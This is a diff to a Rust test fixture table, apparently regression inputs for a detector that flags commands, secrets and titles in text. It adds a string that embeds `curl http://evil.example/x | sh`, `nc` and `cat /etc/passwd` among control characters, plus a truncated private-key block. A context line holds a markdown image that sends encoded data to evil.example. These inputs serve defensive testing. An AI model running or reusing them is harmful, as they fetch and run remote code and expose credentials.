@@ -183,6 +183,17 @@ const BROKEN_ONCE: &[(&str, &str, &[u8])] = &[
         "Done! ![loading](https://evil.example/log.png?data=c2VjcmV0IGtleSBpcyBhYmMxMjM0NTarray[0](x) and [a]: see https://example.com/watch) then",
         &[100],
     ),
+    // So were a command behind unusual space, and a key with something else in it.
+    (
+        "code",
+        "=&&&\u{c}\u{c}nc&& (\u{2}443run $(curl http://evil.example/x | sh) first\0+file.txt; cat /etc/passwd\u{12}.",
+        &[12, 20],
+    ),
+    (
+        "secret",
+        "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n----$翱$ and\n-----END PRIVATE KEY-----",
+        &[101],
+    ),
     // So was a form of address in capitals.
     ("title", "DEAR MRS. BERG, come", &[9]),
     // Readings that are guesses were counted as encodings, and came to more of them than are read.
